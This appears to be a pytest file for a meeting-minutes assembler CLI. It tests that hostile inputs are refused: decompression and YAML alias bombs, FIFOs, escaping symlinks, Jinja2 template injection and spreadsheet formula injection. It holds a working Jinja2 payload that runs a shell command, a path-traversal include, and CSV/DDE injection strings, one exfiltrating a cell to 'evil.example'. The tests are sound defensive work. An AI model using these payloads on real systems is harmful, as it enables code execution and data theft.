"""Hostile and odd inputs: bounded memory, one clear line, nothing that acts.

The hostile files are written on the fly (tests/hostile.py). The memory tests run the CLI in
a subprocess capped at 1.5 GB of address space (``resource.setrlimit``), as a small machine
would: each must end with one line naming the file, the bound and how to raise it.
"""
from __future__ import annotations

import io
import os
import random
import zipfile
import zlib
from pathlib import Path

import jinja2
import pytest
from click.testing import CliRunner

import hostile
from assembler.cli import main
from assembler.errors import ConfigError, InputError
from assembler import limits
from assembler.ingest import read_source
from conftest import FIXTURES, SEED

CAP_MB = 1536
PDF = FIXTURES / "minutes" / "digital-society-council-04-gijiroku-2023-06-06.pdf"


def _error_line(run) -> tuple[str, int]:
    """The one error line of a capped run, and the child's peak memory in MB."""
    lines = run.stderr.strip().splitlines()
    assert lines[-1].startswith("peak-rss-mb "), run.stderr
    peak = int(lines[-1].split()[1])
    rest = lines[:-1]
    assert len(rest) == 1, f"expected one line, got:\n{run.stderr}"
    assert "internal error" not in rest[0] and "Traceback" not in run.stderr
    return rest[0], peak


def _invoke(*args: str):
    return CliRunner().invoke(main, list(args))


# --- memory: each hostile input refused (or read) within 1.5 GB --------------------------------


@pytest.mark.slow
def test_a_100_mb_text_is_refused_at_once(tmp_path):
    big = hostile.big_text(tmp_path / "big.txt", 100)
    run = hostile.run_capped(["parse", str(big)], cwd=tmp_path)
    line, peak = _error_line(run)
    assert run.returncode == 2
    assert line == (f"error: {big}: the file is 99.9 MB, more than the limit of 50 MB for one "
                    "minutes file; split it, or raise the limit: assembler --limit file_mb=100 …")
    assert peak < CAP_MB


def test_a_flate_bomb_pdf_is_refused_within_the_memory_cap(tmp_path):
    bomb = hostile.flate_bomb_pdf(tmp_path / "bomb.pdf", gigabytes=2.0)
    assert bomb.stat().st_size < 3 * 1024 * 1024
    run = hostile.run_capped(["parse", str(bomb)], cwd=tmp_path)
    line, peak = _error_line(run)
    assert run.returncode == 2
    assert line == (f"error: {bomb}: one stream would unpack to more than the limit of 64 MB "
                     "(a decompression bomb?); open it and save it again as PDF, or raise the "
                     "limit: assembler --limit part_mb=256 …")
    assert peak < 400


def test_a_docx_of_200k_paragraphs_is_refused_before_lxml_parses_it(tmp_path):
    many = hostile.many_paragraphs_docx(tmp_path / "many.docx", 200_000)
    run = hostile.run_capped(["parse", str(many)], cwd=tmp_path)
    line, peak = _error_line(run)
    assert run.returncode == 2
    assert line == (f"error: {many}: the number of paragraphs and line breaks is 200,002, more "
                    "than the limit of 100,000; split the file, or raise the limit: "
                    "assembler --limit lines=200002 …")
    assert peak < 400


@pytest.mark.slow
def test_a_docx_of_200k_paragraphs_is_read_within_the_cap_when_the_limit_is_raised(tmp_path):
    many = hostile.many_paragraphs_docx(tmp_path / "many.docx", 200_000)
    run = hostile.run_capped(["--limit", "lines=250000", "parse", str(many)], cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert run.stdout.count("山田委員") >= 200_000
    assert int(run.stderr.split()[-1]) < CAP_MB


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "p"
    assert _invoke("init", str(root), "--title", "骨子").exit_code == 0
    (root / "minutes" / SEED.name).write_bytes(SEED.read_bytes())
    return root


@pytest.mark.parametrize("target", ["overrides.yaml", "assembler.yaml", "outline"])
def test_a_yaml_alias_bomb_is_refused_within_the_memory_cap(project, target):
    bomb = hostile.yaml_alias_bomb()
    if target == "outline":
        path = project.parent / "outline.yaml"
        args = ["build", str(SEED), "-o", str(project.parent / "out" / "d.docx"), "--sections", str(path)]
    else:
        path = project / target
        args = ["build", "--project", str(project)]
    path.write_text(bomb, encoding="utf-8")
    run = hostile.run_capped(args, cwd=project.parent)
    line, peak = _error_line(run)
    assert run.returncode == 2
    assert line == f"error: {path}: line 2: invalid YAML: an alias (*a0) is not allowed here; write the value out"
    assert peak < 400


def test_a_huge_value_in_a_config_error_is_shown_cut_short(project):
    (project / "overrides.yaml").write_text(f"placements:\n  m02_000000: {'x' * 1_000_000}\n",
                                            encoding="utf-8")
    r = _invoke("build", "--project", str(project), "-q")
    assert r.exit_code == 2
    assert len(r.output) < 500, r.output[:600]


def test_a_config_file_over_its_limit_is_refused(project):
    (project / "overrides.yaml").write_text("# " + "x" * (5 * 1024 * 1024) + "\n", encoding="utf-8")
    r = _invoke("build", "--project", str(project), "-q")
    assert r.exit_code == 2
    assert r.output == (f"error: {project / 'overrides.yaml'}: the file is 5.0 MB, more than the "
                        "limit of 4 MB for one configuration file; shorten it, or raise the limit: "
                        "assembler --limit config_mb=6 …\n")


# --- the limits one by one, each with its message -------------------------------------------------


def test_lines_of_a_text_are_counted_before_they_are_made():
    r = _invoke("--limit", "lines=100", "parse", str(SEED))
    assert r.exit_code == 2
    n = len(SEED.read_text(encoding="utf-8").splitlines())
    assert r.output == (f"error: {SEED}: the number of lines is {n:,}, more than the limit of 100; "
                        f"split the file, or raise the limit: assembler --limit lines={n} …\n")


def test_the_limit_can_be_raised_by_the_environment(monkeypatch):
    monkeypatch.setenv("ASSEMBLER_LIMITS", "lines=100")
    assert _invoke("parse", str(SEED)).exit_code == 2
    monkeypatch.setenv("ASSEMBLER_LIMITS", "lines=100000 file_mb=1")
    assert _invoke("parse", str(SEED)).exit_code == 0


@pytest.mark.parametrize("setting, message", [
    ("line=5", "error: --limit line=5: unknown limit 'line'; did you mean 'lines'?"),
    ("lines=many", "error: --limit lines=many: expected lines=a positive number; e.g. --limit lines=200000"),
    ("file_mb=-1", "error: --limit file_mb=-1: expected file_mb=a positive number; e.g. --limit file_mb=100"),
    ("file_mb", "error: --limit file_mb: expected file_mb=a positive number; e.g. --limit file_mb=100"),
])
def test_a_wrong_limit_setting_is_one_line(setting, message):
    r = _invoke("--limit", setting, "parse", str(SEED))
    assert r.exit_code == 2
    assert r.output == message + "\n"


def test_too_many_files_or_bytes_in_one_run(tmp_path):
    for i in (1, 2, 3):
        (tmp_path / f"m{i}.txt").write_bytes(SEED.read_bytes())
    r = _invoke("--limit", "files=2", "parse", str(tmp_path))
    assert r.output == ("error: the number of minutes files is 3, more than the limit of 2; build "
                        "from fewer meetings, or raise the limit: assembler --limit files=3 …\n")
    r = _invoke("--limit", "project_mb=0.01", "parse", str(tmp_path))
    assert r.exit_code == 2 and r.output.startswith("error: all the minutes files together is 0.1 MB")
    assert "assembler --limit project_mb=1 …" in r.output


def test_a_run_exactly_at_each_limit_is_read(tmp_path):
    """A limit is the most that is allowed, not the first that is refused: two files under
    ``files=2``, a file of exactly ``file_mb``, files of exactly ``project_mb`` together,
    57 points under ``points=57`` are read; one more of each is refused."""
    from conftest import SEED05

    folder = tmp_path / "minutes"
    folder.mkdir()
    for src in (SEED, SEED05):
        (folder / src.name).write_bytes(src.read_bytes())
    biggest = max(f.stat().st_size for f in folder.iterdir()) / 2 ** 20  # MB, exactly
    together = sum(f.stat().st_size for f in folder.iterdir()) / 2 ** 20
    at = ["files=2", f"file_mb={biggest!r}", f"project_mb={together!r}"]
    for setting in at:
        r = _invoke("--limit", setting, "parse", str(folder))
        assert r.exit_code == 0, (setting, r.output)
    r = _invoke("--limit", "points=57", "classify", str(SEED))
    assert r.exit_code == 0, r.output
    r = _invoke("--limit", "points=56", "classify", str(SEED))
    assert r.exit_code == 2 and "more than the limit of 56" in r.output, r.output
    over = ["files=1", f"file_mb={biggest - 2 ** -20!r}", f"project_mb={together - 2 ** -20!r}"]
    for setting in over:
        r = _invoke("--limit", setting, "parse", str(folder))
        assert r.exit_code == 2 and "more than the limit" in r.output, (setting, r.output)


def test_too_many_points_in_one_build(tmp_path):
    r = _invoke("--limit", "points=50", "build", str(SEED), "-o", str(tmp_path / "d.docx"))
    assert r.exit_code == 2
    assert r.output == ("error: the number of points in the minutes is 57, more than the limit of "
                        "50; build from fewer meetings, or raise the limit: assembler --limit "
                        "points=57 …\n")
    assert not (tmp_path / "d.docx").exists()


def _docx(tmp_path: Path, paragraphs: list[str]) -> Path:
    from docx import Document

    doc = Document()
    for text in paragraphs:
        doc.add_paragraph(text)
    path = tmp_path / "m.docx"
    doc.save(path)
    return path


def test_docx_elements_and_parts_are_bounded(tmp_path):
    path = _docx(tmp_path, ["（山田委員）", *[f"・意見{i}" for i in range(50)]])
    with limits.using(limits.Limits(xml_elements=100)), pytest.raises(limits.LimitError) as e:
        read_source(path)
    assert str(e.value).startswith(f"{path}: the number of XML elements in part word/")
    with limits.using(limits.Limits(part_mb=0.001)), pytest.raises(limits.LimitError) as e:
        read_source(path)
    assert "unpacked, more than the limit of 0.001 MB; save it again without pictures, or raise " \
           "the limit: assembler --limit part_mb=1 …" in str(e.value)
    with limits.using(limits.Limits(lines=51)):
        assert read_source(path).lines
    with limits.using(limits.Limits(lines=50)), pytest.raises(limits.LimitError):
        read_source(path)


def test_paragraphs_are_counted_whatever_the_namespace_prefix(tmp_path):
    """A hostile .docx may write <p> in the default namespace: it is counted all the same."""
    path = _docx(tmp_path, ["（山田委員）", "・意見"])
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    body = b"".join(b"<p><r><t>x</t></r></p>" for _ in range(30))
    parts["word/document.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><document xmlns="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><body>' + body + b"</body></document>")
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    with limits.using(limits.Limits(lines=20)), pytest.raises(limits.LimitError) as e:
        read_source(path)
    assert "the number of paragraphs and line breaks is " in str(e.value)


def test_pdf_characters_per_page_and_lines_are_bounded():
    with limits.using(limits.Limits(page_chars=200)), pytest.raises(limits.LimitError) as e:
        read_source(PDF)
    assert str(e.value) == (f"{PDF}: page 1: the number of characters drawn is 201, more than the "
                            "limit of 200; split the PDF, or raise the limit: assembler --limit "
                            "page_chars=201 …")
    with limits.using(limits.Limits(lines=20)), pytest.raises(limits.LimitError) as e:
        read_source(PDF)
    assert "the number of text lines is " in str(e.value)


def test_the_pdf_decoders_are_restored_after_a_refusal(tmp_path):
    from pdfminer import pdftypes

    bomb = hostile.flate_bomb_pdf(tmp_path / "bomb.pdf", gigabytes=0.05)
    with limits.using(limits.Limits(part_mb=8)), pytest.raises(limits.LimitError):
        read_source(bomb)
    assert pdftypes.zlib is zlib
    with limits.using(limits.Limits(part_mb=8, unpacked_mb=4)), pytest.raises(limits.LimitError) as e:
        read_source(bomb)
    assert "the streams of the file together would unpack to more than the limit of 4 MB" in str(e.value)
    # within the limits the stream is read: 50 MB of spaces are no text at all
    with limits.using(limits.Limits(part_mb=60, unpacked_mb=60)), pytest.raises(InputError) as e:
        read_source(bomb)
    assert "no text layer" in str(e.value)


def test_the_bounded_decoders_give_the_same_bytes_as_pdfminers():
    from pdfminer.runlength import rldecode

    from assembler.ingest import pdfsafe

    rng = random.Random(4)
    budget = pdfsafe._Budget("x.pdf")
    ours = pdfsafe._runlength(budget)
    for _ in range(200):
        runs = []
        for _ in range(rng.randrange(1, 20)):
            if rng.random() < 0.5:
                n = rng.randrange(1, 129)
                runs.append(bytes([n - 1]) + bytes(rng.randrange(256) for _ in range(n)))
            else:
                runs.append(bytes([rng.randrange(129, 256), rng.randrange(256)]))
        data = b"".join(runs) + b"\x80"
        assert ours(data) == rldecode(data)
    z = pdfsafe._Zlib(budget)
    text = "議事要旨".encode() * 1000
    assert z.decompress(zlib.compress(text)) == text
    with pytest.raises(zlib.error):
        z.decompress(zlib.compress(text)[:-10])


def test_memory_and_recursion_errors_while_reading_name_the_file(monkeypatch):
    from assembler.ingest import text as text_mod

    def boom(*a, **k):
        raise MemoryError

    monkeypatch.setattr(text_mod, "split_lines", boom)
    r = _invoke("parse", str(SEED))
    assert r.exit_code == 2
    assert r.output == (f"error: {SEED}: ran out of memory reading the file; split it into smaller "
                        "files, or set lower limits (assembler --limit)\n")

    def deep(*a, **k):
        raise RecursionError

    monkeypatch.setattr(text_mod, "split_lines", deep)
    r = _invoke("parse", str(SEED))
    assert r.exit_code == 2
    assert r.output.startswith(f"error: {SEED}: the file is nested too deeply to read")


def test_memory_error_in_a_later_stage_is_one_line_not_internal(monkeypatch, tmp_path):
    from assembler import dedup

    def boom(*a, **k):
        raise MemoryError

    monkeypatch.setattr(dedup, "dedup", boom)
    r = _invoke("build", str(SEED), "-o", str(tmp_path / "d.docx"))
    assert r.exit_code == 2
    assert r.output.startswith("error: ran out of memory; the inputs are more than this machine")
    assert r.output.count("\n") == 1 and "internal error" not in r.output


# --- files that are not files ---------------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_parse_of_a_fifo_is_refused_at_once(tmp_path):
    fifo = tmp_path / "第3回.txt"
    os.mkfifo(fifo)
    run = hostile.run_capped(["parse", str(fifo)], cwd=tmp_path, timeout=30)
    line, _ = _error_line(run)
    assert line == (f"error: {fifo}: is a named pipe (FIFO), not a minutes file; give a file "
                    "saved on disk")
    folder = tmp_path / "minutes"
    folder.mkdir()
    (folder / "m1.txt").write_bytes(SEED.read_bytes())
    os.mkfifo(folder / "m2.txt")
    r = _invoke("parse", str(folder))
    assert r.output == (f"error: {folder / 'm2.txt'}: is a named pipe (FIFO), not a minutes file; "
                        "remove it from the folder\n")


def test_a_link_leading_out_of_the_minutes_folder_is_refused(tmp_path):
    outside = tmp_path / "secret.txt"
    outside.write_bytes(SEED.read_bytes())
    folder = tmp_path / "minutes"
    folder.mkdir()
    (folder / "m1.txt").symlink_to(outside)
    r = _invoke("parse", str(folder))
    assert r.exit_code == 2
    assert r.output == (f"error: {folder / 'm1.txt'}: is a link to {outside}, outside {folder}; "
                        "copy the file into the folder instead of linking to it\n")
    (folder / "m1.txt").unlink()
    (folder / "kept").mkdir()
    (folder / "kept" / "real.txt").write_bytes(SEED.read_bytes())
    (folder / "m1.txt").symlink_to("kept/real.txt")  # a link inside the folder is fine
    assert _invoke("parse", str(folder)).exit_code == 0
    (folder / "m2.txt").symlink_to("gone.txt")
    r = _invoke("parse", str(folder))
    assert r.output == (f"error: {folder / 'm2.txt'}: is a link to a file that does not exist; "
                        "remove the link or copy the file in\n")


def test_a_link_out_of_a_projects_minutes_is_refused_by_build(project, tmp_path):
    outside = tmp_path / "elsewhere.txt"
    outside.write_bytes(SEED.read_bytes().replace("第２回".encode(), "第５回".encode()))
    (project / "minutes" / "m5.txt").symlink_to(outside)
    r = _invoke("build", "--project", str(project), "-q")
    assert r.exit_code == 2
    assert "is a link to" in r.output and "outside" in r.output
    assert not (project / "output" / "draft.docx").exists()


# --- templates that would act -----------------------------------------------------------------


SHELL = "{{ cycler.__init__.__globals__.os.system('touch %s') }}"


def test_the_payload_runs_a_command_in_plain_jinja2(tmp_path):
    """The control: this template does run a shell command when jinja2 is not sandboxed."""
    marker = tmp_path / "ran"
    jinja2.Environment().from_string(SHELL % marker).render()
    assert marker.exists()


def test_a_user_template_cannot_run_a_shell_command(tmp_path):
    from assembler.texts import Texts

    marker = tmp_path / "ran"
    user = tmp_path / "templates"
    user.mkdir()
    (user / "citation.j2").write_text(SHELL % marker, encoding="utf-8")
    with pytest.raises(ConfigError) as e:
        Texts(user).render("citation.j2", parts=[])
    assert not marker.exists()
    assert str(e.value).startswith(f"{user / 'citation.j2'}: template error: access to attribute "
                                   "'__init__' of ")
    assert str(e.value).endswith("is unsafe.")


def test_an_outline_intro_cannot_run_a_shell_command(tmp_path):
    marker = tmp_path / "ran"
    intro = (SHELL % marker).replace("'", "''")
    path = tmp_path / "outline.yaml"
    path.write_text(f"sections:\n  - id: main\n    title: 海外展開\n    order: 1\n"
                    f"    intro: '{intro}'\n    evidence:\n      terms: [海外]\n"
                    "  - id: other\n    title: その他\n    order: 2\n    catch_all: true\n",
                    encoding="utf-8")
    r = _invoke("build", str(SEED), "-o", str(tmp_path / "d.docx"), "--sections", str(path))
    assert r.exit_code == 2, r.output
    assert not marker.exists()
    assert r.output.startswith(f"error: {path}: section ")
    assert "is unsafe" in r.output and r.output.count("\n") == 1


def test_a_template_cannot_include_a_file_outside_the_templates(tmp_path):
    from assembler.texts import Texts

    (tmp_path / "secret.txt").write_text("秘密", encoding="utf-8")
    user = tmp_path / "templates"
    user.mkdir()
    (user / "citation.j2").write_text('{% include "../secret.txt" %}', encoding="utf-8")
    with pytest.raises(ConfigError) as e:
        Texts(user).render("citation.j2", parts=[])
    assert "秘密" not in str(e.value)


@pytest.mark.parametrize("expression", ["'x' * 10**9", "[1] * 10**8", "10 ** 100000000", "lipsum(10**9)"])
def test_a_template_cannot_fill_the_memory(expression):
    from assembler import sandbox

    with pytest.raises(jinja2.TemplateError):
        sandbox.environment(undefined=jinja2.StrictUndefined).from_string(
            "{{ %s }}" % expression).render()


# --- spreadsheet cells that would act -------------------------------------------------------------


INJECTED = [
    '=HYPERLINK("http://evil.example/?d="&A1,"詳細はこちら")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2) 地方の窓口を一つにまとめるべき。",
    "-2+3 人材の育成が重要である。",
    "@SUM(A1) 港湾の整備を急ぐべき。",
]


def test_bullets_that_look_like_formulas_stay_text_in_csv_and_xlsx(tmp_path):
    import csv

    from openpyxl import load_workbook

    minutes = tmp_path / "m.txt"
    minutes.write_text("第３回 架空政策懇談会 議事要旨\n\n日時：令和７年２月３日（月）10:00～11:00\n\n"
                       "（山田委員）\n" + "".join(f"・{t}\n" for t in INJECTED)
                       + "・海外の案件に中小企業が参加できるよう支援すべき。\n", encoding="utf-8")
    out = tmp_path / "d.docx"
    r = _invoke("build", str(minutes), "-o", str(out), "-q")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(out.with_suffix(".csv").read_text(encoding="utf-8-sig"))))
    texts = [row["text"] for row in rows]
    assert texts[:5] == ["'" + t for t in INJECTED]
    assert texts[5] == "海外の案件に中小企業が参加できるよう支援すべき。"
    xlsx = out.with_suffix(".xlsx")
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets), "a formula in the workbook"
    ws = load_workbook(xlsx)["points"]
    col = [c.value for c in ws[1]].index("text") + 1
    cells = [ws.cell(row=i, column=col) for i in range(2, 8)]
    assert [c.value for c in cells[:5]] == INJECTED
    assert all(c.data_type == "s" for c in cells)
    assert [bool(c.quotePrefix) for c in cells] == [True] * 5 + [False]
